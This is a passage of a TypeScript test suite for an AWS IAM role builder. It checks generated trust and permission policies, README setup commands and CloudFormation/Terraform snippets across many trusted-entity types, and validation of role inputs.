import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildRole, ROLE_FILES, type RoleAnswers, type RoleField, type RoleResult, type TrustedEntity } from '../../server/src/core/role';
import type { PolicyKind } from '../../server/src/core';
import { lint } from './helpers';

/**
 * The role builder behind the wizard and `iam-policy new-role`: every answer it accepts must give
 * files our own lint finds clean, and every answer it refuses must be refused by the field the
 * wizard shows it on.
 */

/** A fixed randomness source, so that generated ExternalIds are the same on every run. */
const FIXED_BYTES = (length: number) => Uint8Array.from({ length }, (_, i) => (i * 37 + 11) % 248);
const ACCOUNT = '111122223333';
const TRUSTED = '444455556666';
const EKS_ISSUER = 'oidc.eks.us-east-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE';

type OkResult = Extract<RoleResult, { ok: true }>;
type Statement = {
  Sid?: string;
  Effect: string;
  Principal?: Record<string, string | string[]>;
  Action: string | string[];
  Resource?: string | string[];
  Condition?: Record<string, Record<string, string | string[]>>;
};
type Policy = { Version: string; Statement: Statement[] };

function build(answers: RoleAnswers): OkResult {
  const result = buildRole(answers, { randomBytes: FIXED_BYTES });
  assert.ok(result.ok, `expected a role, got ${result.ok ? '' : JSON.stringify(result.problems)}`);
  return result;
}

function problems(answers: RoleAnswers): { field: RoleField; message: string }[] {
  const result = buildRole(answers, { randomBytes: FIXED_BYTES });
  assert.ok(!result.ok, `expected problems, got a role: ${result.ok ? result.files.map((f) => f.name).join(', ') : ''}`);
  return result.problems;
}

function file(result: OkResult, name: string): string {
  const found = result.files.find((f) => f.name === name);
  assert.ok(found, `${name} missing; files: ${result.files.map((f) => f.name).join(', ')}`);
  return found.content;
}

const policyOf = (result: OkResult, name: string) => JSON.parse(file(result, name)) as Policy;
const trustOf = (result: OkResult) => policyOf(result, ROLE_FILES.trust);
/** The README with the shell commands joined back onto one line each (the builder breaks them with ` \` and a newline). */
const readmeOf = (result: OkResult) => file(result, ROLE_FILES.readme).replace(/ \\\n\s+/g, ' ');
const kindOf = (name: string): PolicyKind => (name === ROLE_FILES.trust ? 'trust' : 'identity');

/** Errors and warnings of our lint on a generated file, with the kind forced and with it classified from the file name. */
function lintProblems(name: string, content: string): string[] {
  const forced = lint(content, { kindSetting: kindOf(name), fileName: name });
  const auto = lint(content, { fileName: name });
  const bad = forced.findings.filter((f) => f.severity === 'error' || f.severity === 'warning').map((f) => `${name}: ${f.severity} ${f.rule}: ${f.message}`);
  if (auto.kind !== kindOf(name)) bad.push(`${name}: classified as ${auto.kind}, not ${kindOf(name)}`);
  return bad;
}

/** A JSON document inside the README's CloudFormation block, by its key and indentation. */
function cloudFormationDocument(readme: string, key: 'AssumeRolePolicyDocument' | 'PolicyDocument', indent: number): unknown {
  const match = new RegExp(`\\n *${key}: (\\{\\n[\\s\\S]*?\\n {${indent}}\\})\\n`).exec(readme);
  assert.ok(match, `no ${key} in the CloudFormation block`);
  return JSON.parse(match[1]);
}

const ENTITIES: Record<string, TrustedEntity> = {
  account: { type: 'account', accounts: [TRUSTED] },
  principal: { type: 'principal', arns: [`arn:aws:iam::${TRUSTED}:role/Deployer`] },
  'service ec2': { type: 'service', services: ['ec2.amazonaws.com'] },
  'service lambda': { type: 'service', services: ['lambda.amazonaws.com'] },
  'service config (source-aware)': { type: 'service', services: ['config.amazonaws.com'] },
  'service pods.eks': { type: 'service', services: ['pods.eks.amazonaws.com'] },
  'service ecs-tasks': { type: 'service', services: ['ecs-tasks.amazonaws.com'] },
  'github branch': { type: 'github', repository: 'o/r', branch: 'main' },
  'github environment': { type: 'github', repository: 'o/r', environment: 'prod' },
  'github any ref': { type: 'github', repository: 'o/r' },
  'github release/*': { type: 'github', repository: 'o/r', branch: 'release/*' },
  eks: { type: 'eks', issuer: `https://${EKS_ISSUER}`, namespace: 'ns', serviceAccount: 'sa' },
  'gitlab branch': { type: 'gitlab', project: 'g/p', branch: 'main' },
  'gitlab any ref': { type: 'gitlab', project: 'g/p' },
  saml: { type: 'saml', providerArn: `arn:aws:iam::${ACCOUNT}:saml-provider/MyIdP` },
  oidc: { type: 'oidc', issuer: 'https://token.example.com', audience: 'my-app', subject: 'user:42' },
};
const EXTERNAL_IDS: Record<string, RoleAnswers['externalId']> = { none: undefined, given: 'Xk29fjQ0aP3mZ8rT', generated: { generate: true } };
const MANAGED = { managedPolicies: ['SecurityAudit', 'service-role/AWSLambdaBasicExecutionRole'] };
const INLINE = { actions: ['s3:ListBucket', 's3:GetObject'], resources: ['arn:aws:s3:::my-bucket', 'arn:aws:s3:::my-bucket/*'] };
const PERMISSIONS: Record<string, Partial<RoleAnswers>> = { none: {}, managed: MANAGED, actions: INLINE, both: { ...MANAGED, ...INLINE } };

/** The rule, written out independently of the builder: which fields refuse an entity with these caller protections. */
function expectedRefusal(entity: TrustedEntity, mfa: boolean, externalId: boolean): RoleField[] {
  const caller = entity.type === 'account' || entity.type === 'principal';
  const fields: RoleField[] = [];
  if (!caller && mfa) fields.push('mfa');
  if (!caller && externalId) fields.push('externalId');
  if (entity.type === 'account' && !mfa && !externalId) fields.push('trust');
  return fields;
}

describe('buildRole: every entity x MFA x ExternalId x permissions', () => {
  let built = 0;
  let refused = 0;
  for (const [entityName, entity] of Object.entries(ENTITIES)) {
    describe(entityName, () => {
      for (const mfa of [false, true]) {
        for (const [externalIdName, externalId] of Object.entries(EXTERNAL_IDS)) {
          for (const [permissionsName, permissions] of Object.entries(PERMISSIONS)) {
            const answers: RoleAnswers = { name: 'TestRole', account: ACCOUNT, trust: [entity], mfa, ...(externalId === undefined ? {} : { externalId }), ...permissions };
            const refusal = expectedRefusal(entity, mfa, externalId !== undefined);
            it(`mfa=${mfa} externalId=${externalIdName} permissions=${permissionsName}: ${refusal.length > 0 ? `refused by ${refusal.join(', ')}` : 'clean files'}`, () => {
              const result = buildRole(answers, { randomBytes: FIXED_BYTES });
              if (refusal.length > 0) {
                refused++;
                assert.ok(!result.ok, 'expected a refusal');
                assert.deepEqual(
                  result.problems.map((p) => p.field),
                  refusal,
                );
                for (const p of result.problems) assert.ok(p.message.length > 20, p.message);
                return;
              }
              built++;
              assert.ok(result.ok, JSON.stringify(!result.ok && result.problems));
              const caller = entity.type === 'account' || entity.type === 'principal';
              const expectedFiles = [
                ROLE_FILES.trust,
                ...(permissions.actions ? [ROLE_FILES.permissions] : []),
                ...(caller ? [ROLE_FILES.trustedAccount] : []),
                ROLE_FILES.readme,
              ];
              assert.deepEqual(
                result.files.map((f) => f.name),
                expectedFiles,
              );
              assert.deepEqual(result.warnings, []);
              for (const f of result.files.filter((f) => f.name.endsWith('.json'))) assert.deepEqual(lintProblems(f.name, f.content), []);
              if (externalId === undefined) assert.equal(result.externalId, undefined);
              else assert.match(result.externalId ?? '', typeof externalId === 'string' ? new RegExp(`^${externalId}$`) : /^[A-Za-z0-9]{32}$/);
            });
          }
        }
      }
    });
  }
  it('built and refused the expected number of combinations', () => {
    // 16 entities x 2 x 3 x 4 = 384: the 14 non-caller entities are refused with MFA or an ExternalId (5 of 6) and the account without either.
    assert.equal(built + refused, 384);
    assert.equal(refused, 14 * 5 * 4 + 4);
    assert.equal(built, 100);
  });
});

describe('buildRole: trust semantics', () => {
  const accountRole = (extra: Partial<RoleAnswers>) => build({ name: 'Audit', account: ACCOUNT, trust: [{ type: 'account', accounts: [TRUSTED] }], ...extra });

  it('account + MFA: Bool aws:MultiFactorAuthPresent "true" on the account root', () => {
    const [statement] = trustOf(accountRole({ mfa: true })).Statement;
    assert.deepEqual(statement.Principal, { AWS: `arn:aws:iam::${TRUSTED}:root` });
    assert.equal(statement.Action, 'sts:AssumeRole');
    assert.deepEqual(statement.Condition, { Bool: { 'aws:MultiFactorAuthPresent': 'true' } });
  });

  it('ExternalId (given or generated) in StringEquals sts:ExternalId, equal to result.externalId', () => {
    const given = accountRole({ externalId: 'Xk29fjQ0aP3mZ8rT' });
    assert.equal(given.externalId, 'Xk29fjQ0aP3mZ8rT');
    assert.deepEqual(trustOf(given).Statement[0].Condition, { StringEquals: { 'sts:ExternalId': 'Xk29fjQ0aP3mZ8rT' } });
    const generated = accountRole({ externalId: { generate: true } });
    assert.match(generated.externalId ?? '', /^[A-Za-z0-9]{32}$/);
    assert.deepEqual(trustOf(generated).Statement[0].Condition, { StringEquals: { 'sts:ExternalId': generated.externalId } });
    assert.equal(accountRole({ externalId: { generate: true } }).externalId, generated.externalId, 'a fixed randomness source gives the same ExternalId');
    const both = accountRole({ mfa: true, externalId: 'Xk29fjQ0aP3mZ8rT' });
    assert.deepEqual(trustOf(both).Statement[0].Condition, { Bool: { 'aws:MultiFactorAuthPresent': 'true' }, StringEquals: { 'sts:ExternalId': 'Xk29fjQ0aP3mZ8rT' } });
  });

  it('principal trust names the role ARN and carries the same caller conditions', () => {
    const arn = `arn:aws:iam::${TRUSTED}:role/Deployer`;
    const [statement] = trustOf(build({ name: 'R', account: ACCOUNT, trust: [{ type: 'principal', arns: [arn] }], mfa: true })).Statement;
    assert.deepEqual(statement.Principal, { AWS: arn });
    assert.deepEqual(statement.Condition, { Bool: { 'aws:MultiFactorAuthPresent': 'true' } });
    const plain = trustOf(build({ name: 'R', account: ACCOUNT, trust: [{ type: 'principal', arns: [arn] }] })).Statement[0];
    assert.equal(plain.Condition, undefined, 'a named role needs neither MFA nor an ExternalId');
  });

  const github = (entity: Omit<Extract<TrustedEntity, { type: 'github' }>, 'type'>) =>
    trustOf(build({ name: 'Deploy', account: ACCOUNT, trust: [{ type: 'github', ...entity }] })).Statement[0];
  const GH = 'token.actions.githubusercontent.com';

  it('GitHub: provider ARN of the account, aud sts.amazonaws.com, sub pinned to the branch or environment', () => {
    const branch = github({ repository: 'o/r', branch: 'main' });
    assert.deepEqual(branch.Principal, { Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/${GH}` });
    assert.equal(branch.Action, 'sts:AssumeRoleWithWebIdentity');
    assert.deepEqual(branch.Condition, { StringEquals: { [`${GH}:aud`]: 'sts.amazonaws.com', [`${GH}:sub`]: 'repo:o/r:ref:refs/heads/main' } });
    assert.deepEqual(github({ repository: 'o/r', environment: 'prod' }).Condition, {
      StringEquals: { [`${GH}:aud`]: 'sts.amazonaws.com', [`${GH}:sub`]: 'repo:o/r:environment:prod' },
    });
  });

  it('GitHub: StringLike for any ref (repo:o/r:*) and for a branch pattern (release/*), aud still StringEquals', () => {
    assert.deepEqual(github({ repository: 'o/r' }).Condition, { StringEquals: { [`${GH}:aud`]: 'sts.amazonaws.com' }, StringLike: { [`${GH}:sub`]: 'repo:o/r:*' } });
    assert.deepEqual(github({ repository: 'o/r', branch: 'release/*' }).Condition, {
      StringEquals: { [`${GH}:aud`]: 'sts.amazonaws.com' },
      StringLike: { [`${GH}:sub`]: 'repo:o/r:ref:refs/heads/release/*' },
    });
  });

  it('EKS: https:// stripped from the issuer in the provider ARN and the keys, sub system:serviceaccount:ns:sa', () => {
    for (const issuer of [`https://${EKS_ISSUER}`, EKS_ISSUER, `https://${EKS_ISSUER}/`]) {
      const [statement] = trustOf(build({ name: 'Pod', account: ACCOUNT, trust: [{ type: 'eks', issuer, namespace: 'ns', serviceAccount: 'sa' }] })).Statement;
      assert.deepEqual(statement.Principal, { Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/${EKS_ISSUER}` }, issuer);
      assert.deepEqual(statement.Condition, { StringEquals: { [`${EKS_ISSUER}:aud`]: 'sts.amazonaws.com', [`${EKS_ISSUER}:sub`]: 'system:serviceaccount:ns:sa' } }, issuer);
    }
  });

  it('GitLab: aud https://gitlab.com, sub of the project and branch; SAML: SAML:aud; OIDC: the given audience and subject', () => {
    const gitlab = trustOf(build({ name: 'R', account: ACCOUNT, trust: [{ type: 'gitlab', project: 'g/p', branch: 'main' }] })).Statement[0];
    assert.deepEqual(gitlab.Principal, { Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/gitlab.com` });
    assert.deepEqual(gitlab.Condition, { StringEquals: { 'gitlab.com:aud': 'https://gitlab.com', 'gitlab.com:sub': 'project_path:g/p:ref_type:branch:ref:main' } });
    const saml = trustOf(build({ name: 'R', account: ACCOUNT, trust: [{ type: 'saml', providerArn: `arn:aws:iam::${ACCOUNT}:saml-provider/MyIdP` }] })).Statement[0];
    assert.equal(saml.Action, 'sts:AssumeRoleWithSAML');
    assert.deepEqual(saml.Condition, { StringEquals: { 'SAML:aud': 'https://signin.aws.amazon.com/saml' } });
    const oidc = trustOf(build({ name: 'R', account: ACCOUNT, trust: [{ type: 'oidc', issuer: 'https://token.example.com', audience: 'my-app', subject: 'user:42' }] })).Statement[0];
    assert.deepEqual(oidc.Principal, { Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/token.example.com` });
    assert.deepEqual(oidc.Condition, { StringEquals: { 'token.example.com:aud': 'my-app', 'token.example.com:sub': 'user:42' } });
  });

  it('services: pods.eks gets sts:TagSession, config.amazonaws.com gets aws:SourceAccount, ec2 never', () => {
    const services = (list: string[]) => trustOf(build({ name: 'R', account: ACCOUNT, trust: [{ type: 'service', services: list }] })).Statement;
    const [pods] = services(['pods.eks.amazonaws.com']);
    assert.deepEqual(pods.Action, ['sts:AssumeRole', 'sts:TagSession']);
    const [config] = services(['config.amazonaws.com']);
    assert.deepEqual(config.Condition, { StringEquals: { 'aws:SourceAccount': ACCOUNT } });
    const [ec2] = services(['ec2.amazonaws.com']);
    assert.equal(ec2.Condition, undefined, 'EC2 sends no source account: aws:SourceAccount would lock it out');
    const mixed = services(['ec2.amazonaws.com', 'config.amazonaws.com', 'lambda.amazonaws.com']);
    const ec2Statement = mixed.find((s) => JSON.stringify(s.Principal).includes('ec2.amazonaws.com'));
    assert.equal(ec2Statement?.Condition, undefined);
    assert.deepEqual(mixed.find((s) => JSON.stringify(s.Principal).includes('config.amazonaws.com'))?.Condition, { StringEquals: { 'aws:SourceAccount': ACCOUNT } });
  });

  it('several entities: one statement each (more for mixed services), Sids unique', () => {
    const result = build({
      name: 'Many',
      account: ACCOUNT,
      mfa: true,
      trust: [
        { type: 'account', accounts: [TRUSTED] },
        { type: 'account', accounts: ['777788889999'] },
        { type: 'principal', arns: [`arn:aws:iam::${TRUSTED}:role/A`] },
        { type: 'service', services: ['ec2.amazonaws.com', 'config.amazonaws.com', 'pods.eks.amazonaws.com'] },
        { type: 'service', services: ['lambda.amazonaws.com'] },
        { type: 'github', repository: 'o/r', branch: 'main' },
        { type: 'github', repository: 'o/r2', environment: 'prod' },
      ],
    });
    const sids = trustOf(result).Statement.map((s) => s.Sid);
    assert.equal(sids.length, 9);
    assert.equal(new Set(sids).size, sids.length, sids.join(', '));
    assert.deepEqual(lintProblems(ROLE_FILES.trust, file(result, ROLE_FILES.trust)), []);
    assert.deepEqual(result.warnings, []);
  });

  it('trusted-account-policy.json only for account and principal trust, with Resource = the role ARN', () => {
    const account = accountRole({ mfa: true });
    assert.equal(account.roleArn, `arn:aws:iam::${ACCOUNT}:role/Audit`);
    const [statement] = policyOf(account, ROLE_FILES.trustedAccount).Statement;
    assert.deepEqual({ Action: statement.Action, Resource: statement.Resource, Effect: statement.Effect }, { Action: 'sts:AssumeRole', Resource: account.roleArn, Effect: 'Allow' });
    const principal = build({ name: 'R', account: ACCOUNT, trust: [{ type: 'principal', arns: [`arn:aws:iam::${TRUSTED}:role/A`] }] });
    assert.equal(policyOf(principal, ROLE_FILES.trustedAccount).Statement[0].Resource, principal.roleArn);
    for (const entity of Object.values(ENTITIES).filter((e) => e.type !== 'account' && e.type !== 'principal')) {
      const result = build({ name: 'R', account: ACCOUNT, trust: [entity] });
      assert.ok(!result.files.some((f) => f.name === ROLE_FILES.trustedAccount), entity.type);
    }
  });
});

describe('buildRole: permissions', () => {
  const role = (extra: Partial<RoleAnswers>) => ({ name: 'Worker', account: ACCOUNT, trust: [{ type: 'service', services: ['lambda.amazonaws.com'] }], ...extra }) as RoleAnswers;

  it('s3:ListBucket + s3:GetObject with the bucket and its objects: two statements, each action with its ARN', () => {
    const result = build(role(INLINE));
    assert.deepEqual(policyOf(result, ROLE_FILES.permissions).Statement, [
      { Effect: 'Allow', Action: 's3:ListBucket', Resource: 'arn:aws:s3:::my-bucket' },
      { Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::my-bucket/*' },
    ]);
  });

  it('actions sharing resources share a statement', () => {
    const result = build(role({ actions: ['s3:GetObject', 's3:PutObject'], resources: ['arn:aws:s3:::my-bucket/*'] }));
    assert.deepEqual(policyOf(result, ROLE_FILES.permissions).Statement, [{ Effect: 'Allow', Action: ['s3:GetObject', 's3:PutObject'], Resource: 'arn:aws:s3:::my-bucket/*' }]);
  });

  it('s3:ListAllMyBuckets alone gets "*"', () => {
    assert.deepEqual(policyOf(build(role({ actions: ['s3:ListAllMyBuckets'] })), ROLE_FILES.permissions).Statement, [{ Effect: 'Allow', Action: 's3:ListAllMyBuckets', Resource: '*' }]);
  });

  it('an unknown action: a problem with "did you mean"', () => {
    const found = problems(role({ actions: ['s3:GetObjekt'], resources: ['arn:aws:s3:::my-bucket/*'] }));
    const action = found.find((p) => p.field === 'actions');
    assert.match(action?.message ?? '', /s3:GetObjekt.*did you mean s3:GetObject/);
    assert.match(problems(role({ actions: ['s4:GetObject'] }))[0].message, /"s4" is not a service prefix; did you mean s3/);
    assert.match(problems(role({ actions: ['GetObject'] }))[0].message, /service:Action/);
    assert.match(problems(role({ actions: ['*'] }))[0].message, /AdministratorAccess/);
  });

  it('an action without its resources: a problem naming the ARN format', () => {
    const [problem] = problems(role({ actions: ['s3:GetObject'] }));
    assert.equal(problem.field, 'resources');
    assert.match(problem.message, /s3:GetObject applies to .*arn:\$\{Partition\}:s3:::\$\{BucketName\}\/\$\{ObjectName\}/);
    const [other] = problems(role({ actions: ['s3:GetObject'], resources: ['arn:aws:s3:::my-bucket'] }));
    assert.match(other.message, /none of the resources given is one/);
  });

  it('a resource no action applies to: a problem naming it', () => {
    const table = `arn:aws:dynamodb:us-east-1:${ACCOUNT}:table/T`;
    assert.deepEqual(problems(role({ actions: ['s3:GetObject'], resources: ['arn:aws:s3:::my-bucket/*', table] })), [
      { field: 'resources', message: `None of the actions applies to ${table}: remove it, or add the actions meant for it.` },
    ]);
    assert.equal(problems(role({ resources: ['arn:aws:s3:::my-bucket'] }))[0].field, 'actions', 'resources without actions');
    assert.match(problems(role({ actions: ['s3:GetObject'], resources: ['my-bucket'] }))[0].message, /^my-bucket: .*ARN/);
  });

  it('iam:PassRole on "*": built, with the passrole-wildcard-resource warning in result.warnings', () => {
    const result = build(role({ actions: ['iam:PassRole'], resources: ['*'] }));
    assert.equal(result.warnings.length, 1);
    assert.match(result.warnings[0], /^permissions-policy\.json: .*\(passrole-wildcard-resource\)$/);
  });

  it('managed policies resolve to ARNs in the README and CloudFormation; a bad one is a managedPolicies problem', () => {
    const result = build(role({ managedPolicies: ['SecurityAudit', 'AWSLambdaBasicExecutionRole', 'job-function/ViewOnlyAccess', `arn:aws:iam::${ACCOUNT}:policy/Mine`] }));
    const readme = readmeOf(result);
    for (const arn of [
      'arn:aws:iam::aws:policy/SecurityAudit',
      'arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole',
      'arn:aws:iam::aws:policy/job-function/ViewOnlyAccess',
      `arn:aws:iam::${ACCOUNT}:policy/Mine`,
    ]) {
      assert.ok(readme.includes(`aws iam attach-role-policy --role-name Worker --policy-arn ${arn}`), arn);
      assert.ok(readme.includes(`        - ${arn}\n`), `CloudFormation ManagedPolicyArns: ${arn}`);
    }
    assert.ok(!result.files.some((f) => f.name === ROLE_FILES.permissions), 'no inline policy without actions');
    assert.deepEqual(
      problems(role({ managedPolicies: ['SecurityAudti'] })).map((p) => p.field),
      ['managedPolicies'],
    );
  });
});

describe('buildRole: README', () => {
  const audit = build({ name: 'Audit', account: ACCOUNT, trust: [{ type: 'account', accounts: [TRUSTED] }], mfa: true, managedPolicies: ['SecurityAudit'] });
  const vendor = build({
    name: 'Vendor',
    account: ACCOUNT,
    trust: [{ type: 'account', accounts: [TRUSTED] }],
    externalId: { generate: true },
    managedPolicies: ['ReadOnlyAccess'],
    actions: ['s3:GetObject'],
    resources: ['arn:aws:s3:::my-bucket/*'],
    maxSessionDuration: 7200,
    sessionDuration: 5400,
  });
  const deploy = build({ name: 'Deploy', account: ACCOUNT, trust: [{ type: 'github', repository: 'my-org/my-repo', branch: 'main' }], actions: ['s3:PutObject'], resources: ['arn:aws:s3:::my-bucket/*'] });

  it('create-role with the trust policy, attach-role-policy per managed policy, put-role-policy for actions', () => {
    const readme = readmeOf(vendor);
    assert.ok(readme.includes('aws iam create-role --role-name Vendor --assume-role-policy-document file://trust-policy.json'));
    assert.ok(readme.includes('aws iam attach-role-policy --role-name Vendor --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess'));
    assert.ok(readme.includes('aws iam put-role-policy --role-name Vendor --policy-name Vendor-permissions --policy-document file://permissions-policy.json'));
    assert.ok(!readmeOf(audit).includes('put-role-policy'), 'no inline policy, no put-role-policy');
  });

  it('update-role --max-session-duration only when set', () => {
    assert.ok(readmeOf(vendor).includes('aws iam update-role --role-name Vendor --max-session-duration 7200'));
    assert.ok(!readmeOf(audit).includes('update-role'));
  });

  it('assume-role with --serial-number/--token-code for MFA, --external-id for an ExternalId, --duration-seconds', () => {
    const mfa = readmeOf(audit);
    assert.match(mfa, /aws sts assume-role --role-arn arn:aws:iam::111122223333:role\/Audit --role-session-name Audit-session --serial-number arn:aws:iam::[^ ]+:mfa\/[^ ]+ --token-code /);
    assert.ok(!mfa.includes('--external-id'));
    assert.ok(!mfa.includes('--duration-seconds'), 'no duration asked when none was given');
    const external = readmeOf(vendor);
    assert.ok(external.includes(`--external-id ${vendor.externalId} --duration-seconds 5400`));
    assert.ok(!external.includes('--serial-number'));
    const withDuration = readmeOf(build({ name: 'A', account: ACCOUNT, trust: [{ type: 'account', accounts: [TRUSTED] }], mfa: true, maxSessionDuration: 7200 }));
    assert.ok(withDuration.includes('--duration-seconds 7200'), 'the session defaults to the maximum');
  });

  it('the ~/.aws/config profile: role_arn, source_profile, mfa_serial, external_id, duration_seconds', () => {
    const mfa = readmeOf(audit);
    assert.ok(mfa.includes('~/.aws/config'));
    assert.ok(mfa.includes('[profile Audit]\nrole_arn = arn:aws:iam::111122223333:role/Audit\nsource_profile = default\nmfa_serial = arn:aws:iam::'));
    const external = readmeOf(vendor);
    assert.ok(external.includes(`[profile Vendor]\nrole_arn = arn:aws:iam::111122223333:role/Vendor\nsource_profile = default\nexternal_id = ${vendor.externalId}\nduration_seconds = 5400\n`));
  });

  it('the switch-role URL, and none for an ExternalId role', () => {
    const url = /<(https:\/\/signin\.aws\.amazon\.com\/switchrole\?[^>]+)>/.exec(readmeOf(audit))?.[1];
    assert.ok(url);
    const params = new URL(url).searchParams;
    assert.deepEqual([params.get('roleName'), params.get('account'), params.get('displayName')], ['Audit', ACCOUNT, `Audit (${ACCOUNT})`]);
    assert.ok(!readmeOf(vendor).includes('switchrole'));
    assert.match(readmeOf(vendor), /console cannot send an ExternalId/);
  });

  it('the GitHub workflow for GitHub trust, with id-token: write and the role ARN', () => {
    const readme = readmeOf(deploy);
    assert.ok(readme.includes('aws iam create-open-id-connect-provider --url https://token.actions.githubusercontent.com --client-id-list sts.amazonaws.com'));
    assert.ok(readme.includes('  push:\n    branches: ["main"]\n'));
    assert.ok(readme.includes('  id-token: write'));
    assert.ok(readme.includes('aws-actions/configure-aws-credentials@'));
    assert.ok(readme.includes(`role-to-assume: "${deploy.roleArn}"\n`));
    assert.ok(!readmeOf(audit).includes('GitHub Actions'));
    const environment = readmeOf(build({ name: 'D', account: ACCOUNT, trust: [{ type: 'github', repository: 'o/r', environment: 'prod' }] }));
    assert.ok(environment.includes('    environment: "prod"\n'));
  });

  it('the CloudFormation block holds the same trust and permissions documents as the JSON files', () => {
    for (const result of [audit, vendor, deploy]) {
      const readme = file(result, ROLE_FILES.readme);
      assert.deepEqual(cloudFormationDocument(readme, 'AssumeRolePolicyDocument', 8), trustOf(result));
      if (result.files.some((f) => f.name === ROLE_FILES.permissions)) assert.deepEqual(cloudFormationDocument(readme, 'PolicyDocument', 12), policyOf(result, ROLE_FILES.permissions));
    }
    assert.ok(file(vendor, ROLE_FILES.readme).includes('      MaxSessionDuration: 7200\n'));
    assert.ok(file(vendor, ROLE_FILES.readme).includes('Type: AWS::IAM::Role'));
  });

  it('the Terraform block reads the JSON files', () => {
    const readme = file(vendor, ROLE_FILES.readme);
    assert.ok(readme.includes('resource "aws_iam_role" "this" {\n  name                 = "Vendor"\n'));
    assert.ok(readme.includes('assume_role_policy   = file("${path.module}/trust-policy.json")'));
    assert.ok(readme.includes('max_session_duration = 7200'));
    assert.ok(readme.includes('toset(["arn:aws:iam::aws:policy/ReadOnlyAccess"])'));
    assert.ok(readme.includes('policy = file("${path.module}/permissions-policy.json")'));
  });

  it('a role name with + = , . @ _ - gives valid JSON and quoted YAML strings', () => {
    const name = 'a+b=c,d.e@f_g-h';
    const result = build({
      name,
      account: ACCOUNT,
      mfa: true,
      trust: [{ type: 'account', accounts: [TRUSTED] }, { type: 'github', repository: 'o/r', branch: 'main' }],
      actions: ['s3:ListAllMyBuckets'],
    });
    const raw = file(result, ROLE_FILES.readme);
    for (const f of result.files.filter((f) => f.name.endsWith('.json'))) assert.deepEqual(lintProblems(f.name, f.content), []);
    assert.equal(policyOf(result, ROLE_FILES.trustedAccount).Statement[0].Resource, `arn:aws:iam::${ACCOUNT}:role/${name}`);
    assert.equal(JSON.parse(/RoleName: (.*)\n/.exec(raw)?.[1] ?? ''), name);
    assert.equal(JSON.parse(/PolicyName: (.*)\n/.exec(raw)?.[1] ?? ''), `${name}-permissions`);
    assert.equal(JSON.parse(/ name {17}= (.*)\n/.exec(raw)?.[1] ?? ''), name);
    assert.deepEqual(cloudFormationDocument(raw, 'AssumeRolePolicyDocument', 8), trustOf(result));
    const url = /<(https:\/\/signin\.aws\.amazon\.com\/switchrole\?[^>]+)>/.exec(raw)?.[1] ?? '';
    assert.equal(new URL(url).searchParams.get('roleName'), name);
  });
});

describe('buildRole: validation', () => {
  const base: RoleAnswers = { name: 'R', account: ACCOUNT, trust: [{ type: 'github', repository: 'o/r', branch: 'main' }] };
  const caller: TrustedEntity = { type: 'principal', arns: [`arn:aws:iam::${TRUSTED}:role/A`] };
  /** [label, answers changed from base, field refused (or undefined: accepted), what the message must say]. */
  const CASES: [string, Partial<RoleAnswers>, RoleField | undefined, RegExp?][] = [
    ['empty role name', { name: '' }, 'name', /Give the role a name/],
    ['65-character role name', { name: 'a'.repeat(65) }, 'name', /at most 64 characters; this one has 65/],
    ['64-character role name', { name: 'a'.repeat(64) }, undefined],
    ['role name with a space', { name: 'a b' }, 'name', /may only contain letters, digits and \+ = , \. @ _ -, not " "/],
    ['role name with /', { name: 'team/a' }, 'name', /not "\/"/],
    ['11-digit account', { account: '11112222333' }, 'account', /12 digits; "11112222333" has 11/],
    ['account with letters', { account: '11112222333a' }, 'account', /12 digits, like 111122223333/],
    ['max session 3599', { maxSessionDuration: 3599 }, 'maxSessionDuration', /3,600 to 43,200 seconds.*not 3599/],
    ['max session 3600', { maxSessionDuration: 3600 }, undefined],
    ['max session 43200', { maxSessionDuration: 43200 }, undefined],
    ['max session 43201', { maxSessionDuration: 43201 }, 'maxSessionDuration', /not 43201/],
    ['max session 1.5', { maxSessionDuration: 1.5 }, 'maxSessionDuration', /not 1\.5/],
    ['session 899', { sessionDuration: 899 }, 'sessionDuration', /900 to 43,200 seconds.*not 899/],
    ['session 900', { sessionDuration: 900 }, undefined],
    ['session 3600 under the default maximum', { sessionDuration: 3600 }, undefined],
    ['session above the default maximum', { sessionDuration: 3601 }, 'sessionDuration', /longer than the role's maximum session duration \(3600\): raise the maximum/],
    ['session above the given maximum', { sessionDuration: 7201, maxSessionDuration: 7200 }, 'sessionDuration', /\(7200\): raise the maximum/],
    ['session at the given maximum', { sessionDuration: 7200, maxSessionDuration: 7200 }, undefined],
    ['1-character ExternalId', { trust: [caller], externalId: 'a' }, 'externalId', /2 to 1,224 characters/],
    ['ExternalId with a space', { trust: [caller], externalId: 'ab cd' }, 'externalId', /may only contain letters, digits.*" "/],
    ['placeholder ExternalId', { trust: [caller], externalId: 'your-external-id' }, 'externalId', /placeholder, not a secret: generate a random value/],
    ['assumed-role session ARN', { trust: [{ type: 'principal', arns: [`arn:aws:sts::${TRUSTED}:assumed-role/A/session`] }] }, 'trust', /Name the role \(arn:aws:iam::ACCOUNT:role\/NAME\), not a session/],
    ['not an ARN as principal', { trust: [{ type: 'principal', arns: [TRUSTED] }] }, 'trust', /not an IAM role or user ARN, like arn:aws:iam::/],
    ['no principal ARN', { trust: [{ type: 'principal', arns: [] }] }, 'trust', /at least one role ARN/],
    ['no account id in the entity', { trust: [{ type: 'account', accounts: [] }], mfa: true }, 'trust', /at least one account id/],
    ['GitHub repository *', { trust: [{ type: 'github', repository: '*' }] }, 'trust', /Name one repository/],
    ['GitHub repository o/*', { trust: [{ type: 'github', repository: 'o/*' }] }, 'trust', /Name one repository/],
    ['GitHub OWNER/REPO fill-ins', { trust: [{ type: 'github', repository: 'OWNER/REPO' }] }, 'trust', /Replace OWNER, REPO with the real value/],
    ['GitHub branch *', { trust: [{ type: 'github', repository: 'o/r', branch: '*' }] }, 'trust', /Name a branch/],
    ['GitHub branch with * inside', { trust: [{ type: 'github', repository: 'o/r', branch: 'a*b' }] }, 'trust', /may only end with \*, like release\/\*/],
    ['GitHub branch and environment', { trust: [{ type: 'github', repository: 'o/r', branch: 'main', environment: 'prod' }] }, 'trust', /a branch or to an environment, not both/],
